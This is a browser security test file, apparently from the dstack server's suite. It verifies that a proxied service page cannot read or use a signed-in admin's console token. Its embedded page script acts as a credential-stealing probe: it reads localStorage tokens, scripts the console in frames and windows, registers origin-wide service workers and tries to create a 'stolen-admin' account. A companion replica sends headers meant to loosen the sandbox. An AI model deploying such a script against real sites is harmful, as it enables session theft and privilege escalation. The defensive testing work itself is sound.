/**
 * A service page cannot reach the web console's credential (issue 28, H7), in a real browser.
 *
 * The console (`/`) and the server's service proxy (`/proxy/services/…`) share one origin. An
 * admin signs in to the console in Chromium; a plain member of the project runs an `auth: false`
 * service (a real replica on the local backend) whose page, opened in the same browser, tries
 * everything a page on the console's origin could do: read the console's localStorage, open the
 * console in a window or a frame and read or script it, register a service worker over the whole
 * origin, call the API with and without credentials (its author's own token included) and create
 * an admin with whatever token it found. The replica also tries to undo the proxy's protection
 * with headers of its own (a permissive `Content-Security-Policy`, `Service-Worker-Allowed: /`,
 * `Clear-Site-Data`). The page reports what it got to its replica; the replica records every
 * request it receives, so the test sees whatever left the browser.
 */
import { existsSync } from 'node:fs';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import { join } from 'node:path';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SANDBOX_POLICY } from '../src/http/origin-isolation.js';
import { requestUpgrade } from '../src/http/upgrade-request.test.helpers.js';
import {
  ADMIN_TOKEN,
  applyNodeService,
  type HarnessServer,
  localBackendConfig,
  makeTempDir,
  startHarnessServer,
} from './server-harness.js';

/** Debian's Chromium, or the browser `DSTACK_TEST_CHROMIUM` names (then only that one). */
const CHROMIUM = (
  process.env.DSTACK_TEST_CHROMIUM
    ? [process.env.DSTACK_TEST_CHROMIUM]
    : ['/usr/bin/chromium', '/usr/bin/chromium-browser']
).find((path) => existsSync(path));
/** Generous for a shared 2-core machine: the service's replica starts after its shim and runner. */
const TIMEOUT_MS = 90_000;
const SERVICE_NAME = 'curious-page';
const SERVICE_MODEL = 'curious-model';
/** The console's localStorage key for the token (packages/web/src/session.tsx). */
const CONSOLE_TOKEN_KEY = 'dstack.token';

/** The replica's own, looser policy (see `replicaScript`): kept after the sandbox, never instead of it. */
const REPLICA_POLICY = 'sandbox allow-scripts allow-same-origin allow-popups';

/** One probe of the page: what it got, or the error that stopped it. */
interface ProbeResult {
  ok: boolean;
  value?: string;
  error?: string;
}

/** What the page sends to its replica once every probe has run. */
interface PageReport {
  probes: Record<string, ProbeResult>;
  /** Every token the page found, to use and to send away. */
  found: string[];
}

/** A request as the replica saw it. */
interface SeenRequest {
  method: string;
  url: string;
  headers: Record<string, string>;
  body: string;
}

/**
 * The page's script: each probe in turn, then the report POSTed to the replica (`no-cors`, which
 * any page may send), then the title the test waits for. `__OWN_TOKEN__` is its author's token.
 */
const PAGE_SCRIPT = `
const TOKEN_KEY = ${JSON.stringify(CONSOLE_TOKEN_KEY)};
const OWN_TOKEN = '__OWN_TOKEN__';
const probes = {};
const found = [];
const keep = (value) => { if (typeof value === 'string' && value !== '' && !found.includes(value)) found.push(value); };
const probe = async (name, run) => {
  try { probes[name] = { ok: true, value: String(await run()) }; }
  catch (error) { probes[name] = { ok: false, error: String(error) }; }
};
/** A condition on another window, polled while it loads; an error (a cross-origin window) ends it at once. */
const until = async (condition) => {
  for (let attempt = 0; attempt < 400; attempt += 1) {
    const value = condition();
    if (value) return value;
    await new Promise((resolve) => setTimeout(resolve, 25));
  }
  throw new Error('the condition never held');
};
const answer = async (response) => response.status + ' ' + (await response.text());
const api = (path, init) => fetch(path, { method: 'POST', ...init }).then(answer);

(async () => {
  await probe('localStorage', () => { const token = localStorage.getItem(TOKEN_KEY); keep(token); return token; });
  await probe('cookies', () => document.cookie);
  await probe('consoleInAFrame', async () => {
    const frame = document.createElement('iframe');
    frame.src = '/runs';
    await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
    const token = frame.contentWindow.localStorage.getItem(TOKEN_KEY);
    keep(token);
    return token;
  });
  await probe('consoleInAWindow', async () => {
    const opened = window.open('/runs');
    if (!opened) throw new Error('no window');
    const user = await until(() => opened.document.querySelector('[data-testid=username]'));
    const token = opened.localStorage.getItem(TOKEN_KEY);
    keep(token);
    return user.textContent + ' ' + token;
  });
  await probe('serviceWorker', async () => (await navigator.serviceWorker.register('sw.js')).scope);
  await probe('serviceWorkerOverTheOrigin', async () =>
    (await navigator.serviceWorker.register('sw.js', { scope: '/' })).scope);
  await probe('usersListWithoutCredentials', () => api('/api/users/list'));
  await probe('usersListWithCookies', () => api('/api/users/list', { credentials: 'include' }));
  await probe('ownUserWithOwnToken', () =>
    api('/api/users/get_my_user', { headers: { authorization: 'Bearer ' + OWN_TOKEN } }));
  await probe('createUserWithoutCredentials', () =>
    api('/api/users/create', { credentials: 'include', body: JSON.stringify({ username: 'made-by-a-page', global_role: 'admin' }) }));
  for (const token of found.filter((token) => token !== OWN_TOKEN)) {
    await probe('usersListWithFoundToken', () =>
      api('/api/users/list', { headers: { authorization: 'Bearer ' + token } }));
    await probe('createUserWithFoundToken', () =>
      api('/api/users/create', {
        headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
        body: JSON.stringify({ username: 'stolen-admin', global_role: 'admin' }),
      }));
  }
  // Asks the replica for Clear-Site-Data, which would sign the console out of this origin.
  await probe('clearSiteData', async () => {
    const frame = document.createElement('iframe');
    frame.src = 'clear';
    await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
    return 'loaded';
  });
  await fetch('report', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ probes, found }) });
  document.title = 'reported';
})();
`;

/**
 * The replica: a Node HTTP server (run by the job) answering the page, its service worker, the
 * Clear-Site-Data request and the report, and recording every request it gets; `GET /seen` lists
 * them. Each answer tries to loosen the proxy's policy with a policy of its own.
 */
function replicaScript(page: string): string {
  return `
const http = require('node:http');
const seen = [];
const page = ${JSON.stringify(page)};
const loosened = { 'content-security-policy': ${JSON.stringify(REPLICA_POLICY)} };
http.createServer((request, response) => {
  let body = '';
  request.on('data', (chunk) => { body += chunk; });
  request.on('end', () => {
    if (request.url === '/seen') {
      response.writeHead(200, { 'content-type': 'application/json' });
      response.end(JSON.stringify(seen));
      return;
    }
    seen.push({ method: request.method, url: request.url, headers: request.headers, body });
    if (request.url === '/') {
      response.writeHead(200, { ...loosened, 'content-type': 'text/html; charset=utf-8' });
      response.end(page);
    } else if (request.url === '/sw.js') {
      response.writeHead(200, { ...loosened, 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
      response.end("self.addEventListener('fetch', () => {});");
    } else if (request.url === '/redirect') {
      response.writeHead(302, { ...loosened, location: 'elsewhere' });
      response.end();
    } else if (request.url === '/cached') {
      const fresh = request.headers['if-none-match'] === '"v1"';
      response.writeHead(fresh ? 304 : 200, { ...loosened, etag: '"v1"', 'content-type': 'text/html' });
      response.end(fresh ? undefined : '<p>cached</p>');
    } else if (request.url === '/image.svg') {
      response.writeHead(200, { ...loosened, 'content-type': 'image/svg+xml' });
      response.end('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    } else if (request.url === '/clear') {
      response.writeHead(200, { ...loosened, 'content-type': 'text/html', 'clear-site-data': '"storage", "cookies"' });
      response.end('cleared');
    } else {
      response.writeHead(request.url === '/report' ? 200 : 404, loosened);
      response.end();
    }
  });
}).on('upgrade', (request, socket) => {
  socket.on('error', () => {});
  if (request.url !== '/ws') {
    socket.end('HTTP/1.1 426 Upgrade Required\\r\\ncontent-security-policy: ' + loosened['content-security-policy'] +
      '\\r\\ncontent-type: text/html\\r\\ncontent-length: 2\\r\\n\\r\\nno');
    return;
  }
  const accept = require('node:crypto').createHash('sha1')
    .update(request.headers['sec-websocket-key'] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64');
  socket.write('HTTP/1.1 101 Switching Protocols\\r\\nupgrade: websocket\\r\\nconnection: Upgrade\\r\\n' +
    'sec-websocket-accept: ' + accept + '\\r\\ncontent-security-policy: ' + loosened['content-security-policy'] + '\\r\\n\\r\\n');
  socket.end();
}).listen(Number(process.argv[2]), '127.0.0.1');
`;
}

if (!CHROMIUM && process.env.CI) {
  throw new Error('Chromium is missing (apt-get install chromium); .ci/run installs it');
}

/** An answer through the server as node:http gives it: status, each header line, the body. */
interface RawAnswer {
  status: number | undefined;
  headers: IncomingMessage['headersDistinct'];
  body: string;
}

function rawRequest(
  url: string,
  options: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<RawAnswer> {
  return new Promise((resolve, reject) => {
    const request = httpRequest(
      url,
      { method: options.method ?? 'GET', headers: options.headers },
      (response) => {
        let body = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => {
          body += chunk;
        });
        response.on('end', () =>
          resolve({ status: response.statusCode, headers: response.headersDistinct, body }),
        );
      },
    );
    request.on('error', reject);
    request.end(options.body);
  });
}

/**
 * Checks the answer's policies: the server's sandbox first, then the replica's own policy when
 * the answer is the replica's (kept, never in place of the sandbox).
 */
function expectSandboxed(answer: Pick<RawAnswer, 'headers'>, fromReplica = true): void {
  expect(answer.headers['content-security-policy']).toEqual([
    fromReplica ? `${SANDBOX_POLICY}, ${REPLICA_POLICY}` : SANDBOX_POLICY,
  ]);
}

describe('a service page beside the web console', { timeout: TIMEOUT_MS }, () => {
  const temp = makeTempDir('dstack-service-page-');
  let harness: HarnessServer;
  let browser: Browser | undefined;
  let memberToken: string;
  let serviceUrl: string;

  beforeAll(async () => {
    harness = await startHarnessServer({
      dir: join(temp.dir, 'server'),
      config: localBackendConfig(temp.dir),
    });
    memberToken = await harness.createUser('service-author');
    const added = await harness.call('/api/projects/main/add_members', {
      members: [{ username: 'service-author', project_role: 'user' }],
    });
    expect(added.status).toBe(200);

    const page = `<!doctype html><title>probing</title><body><script>${PAGE_SCRIPT.replace('__OWN_TOKEN__', memberToken)}</script></body>`;
    serviceUrl = await applyNodeService(harness, {
      dir: temp.dir,
      name: SERVICE_NAME,
      script: replicaScript(page),
      // The service author applies it with their own token: a plain member of the project.
      token: memberToken,
      readyPath: 'seen',
      timeoutMs: TIMEOUT_MS,
      // Also behind the model endpoint, whose answers come from the replica the same way.
      fields: { auth: false, model: SERVICE_MODEL },
    });
    if (CHROMIUM) browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  }, TIMEOUT_MS);

  afterAll(async () => {
    await browser?.close();
    await harness?.terminateFleetsAndClose();
    temp.remove();
  }, TIMEOUT_MS);

  it.skipIf(!CHROMIUM)(
    "cannot read, script or use the signed-in admin's console token (Chromium)",
    async () => {
      // The admin signs in to the console; the token is in the origin's localStorage.
      const context = await browser!.newContext();
      const consolePage = await context.newPage();
      await consolePage.goto(`${harness.server.url}/`);
      await consolePage.fill('#token', ADMIN_TOKEN);
      await consolePage.click('button[type=submit]');
      await consolePage.getByTestId('username').waitFor();
      const consoleToken = () =>
        consolePage.evaluate(`localStorage.getItem(${JSON.stringify(CONSOLE_TOKEN_KEY)})`);
      expect(await consoleToken()).toBe(ADMIN_TOKEN);

      // The admin opens the service's page in the same browser.
      const servicePage = await context.newPage();
      await servicePage.goto(serviceUrl);
      await servicePage.waitForFunction('document.title === "reported"', undefined, { timeout: TIMEOUT_MS });

      const seen = (await (await fetch(`${serviceUrl}seen`)).json()) as SeenRequest[];
      const reportRequest = seen.find((request) => request.url === '/report');
      expect(reportRequest).toBeDefined();
      const report = JSON.parse(reportRequest!.body) as PageReport;
      // The admin's token never reached the replica, in any request.
      expect(JSON.stringify(seen)).not.toContain(ADMIN_TOKEN);
      expect(report.found).not.toContain(ADMIN_TOKEN);
      // Every probe failed: the page's origin is opaque, so nothing of the console's origin is its.
      const succeeded = Object.entries(report.probes).filter(([, result]) => result.ok);
      expect(succeeded.map(([name]) => name)).toEqual(['clearSiteData']);
      expect(report.probes.localStorage?.error).toMatch(/SecurityError/);
      expect(report.probes.consoleInAFrame?.error).toMatch(/SecurityError/);
      expect(report.probes.consoleInAWindow?.error).toMatch(/SecurityError/);
      expect(report.probes.serviceWorkerOverTheOrigin?.error).toMatch(/SecurityError/);
      // The API answers no cross-origin caller: not even the page author's own token is usable from it.
      for (const name of [
        'usersListWithoutCredentials',
        'usersListWithCookies',
        'ownUserWithOwnToken',
        'createUserWithoutCredentials',
      ]) {
        expect(report.probes[name]?.error, name).toMatch(/TypeError: Failed to fetch/);
      }

      // Nothing was created, and the console is still signed in (the replica's Clear-Site-Data did not reach the browser).
      const users = await harness.call<Array<{ username: string }>>('/api/users/list');
      expect(users.body.map((user) => user.username).sort()).toEqual(['admin', 'service-author']);
      expect(await consoleToken()).toBe(ADMIN_TOKEN);
      await context.close();
    },
  );

  it('sandboxes every answer through the proxies, whatever the replica sends', async () => {
    const page = await rawRequest(serviceUrl);
    expect(page.status).toBe(200);
    expect(page.headers['content-type']).toEqual(['text/html; charset=utf-8']);
    expectSandboxed(page);
    const redirect = await rawRequest(`${serviceUrl}redirect`);
    expect(redirect.status).toBe(302);
    expectSandboxed(redirect);
    const notModified = await rawRequest(`${serviceUrl}cached`, { headers: { 'if-none-match': '"v1"' } });
    expect(notModified.status).toBe(304);
    expectSandboxed(notModified);
    const image = await rawRequest(`${serviceUrl}image.svg`);
    expect(image.headers['content-type']).toEqual(['image/svg+xml']);
    expectSandboxed(image);
    const missing = await rawRequest(`${serviceUrl}no-such-page`);
    expect(missing.status).toBe(404);
    expectSandboxed(missing);
    // Headers acting on the whole origin (the console's) do not reach the browser.
    const worker = await rawRequest(`${serviceUrl}sw.js`);
    expect(worker.headers['service-worker-allowed']).toBeUndefined();
    expectSandboxed(worker);
    const clear = await rawRequest(`${serviceUrl}clear`);
    expect(clear.headers['clear-site-data']).toBeUndefined();
    expectSandboxed(clear);

    // The proxy's own answers: an unknown service (403 to a caller without a token), the model
    // endpoint's refusal and its relayed answer.
    const unknown = await rawRequest(`${harness.server.url}/proxy/services/main/no-such-run/`);
    expect(unknown.status).toBe(403);
    expectSandboxed(unknown, false);
    const modelsRefused = await rawRequest(`${harness.server.url}/proxy/models/main/models`);
    expect(modelsRefused.status).toBe(401);
    expectSandboxed(modelsRefused, false);
    const modelAnswer = await rawRequest(`${harness.server.url}/proxy/models/main/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ model: SERVICE_MODEL, messages: [] }),
    });
    // The replica has no /v1/chat/completions: its own 404, relayed.
    expect(modelAnswer.status).toBe(404);
    expectSandboxed(modelAnswer);

    // Upgrades: the replica's 101, its refusal, and the proxy's own refusal.
    const switched = await requestUpgrade(`${serviceUrl}ws`);
    expect(switched.kind).toBe('switched');
    expectSandboxed({ headers: switched.response.headersDistinct });
    if (switched.kind === 'switched') switched.socket.destroy();
    const refused = await requestUpgrade(`${serviceUrl}elsewhere`);
    expect(refused.response.statusCode).toBe(426);
    expectSandboxed({ headers: refused.response.headersDistinct });
    const unknownUpgrade = await requestUpgrade(`${harness.server.url}/proxy/services/main/no-such-run/ws`);
    expect(unknownUpgrade.response.statusCode).toBe(403);
    expectSandboxed({ headers: unknownUpgrade.response.headersDistinct }, false);
  });

  it('the API answers an opaque origin no CORS header, to a preflight or a request', async () => {
    const preflight = await rawRequest(`${harness.server.url}/api/users/list`, {
      method: 'OPTIONS',
      headers: {
        origin: 'null',
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'authorization',
      },
    });
    expect(preflight.status).toBe(405);
    const call = await rawRequest(`${harness.server.url}/api/users/get_my_user`, {
      method: 'POST',
      headers: { origin: 'null', authorization: `Bearer ${memberToken}` },
    });
    expect(call.status).toBe(200);
    for (const answer of [preflight, call]) {
      expect(Object.keys(answer.headers).filter((name) => name.startsWith('access-control-'))).toEqual([]);
      // The API's own answers are sandboxed too: only the console's files are not.
      expectSandboxed(answer, false);
    }
  });
});
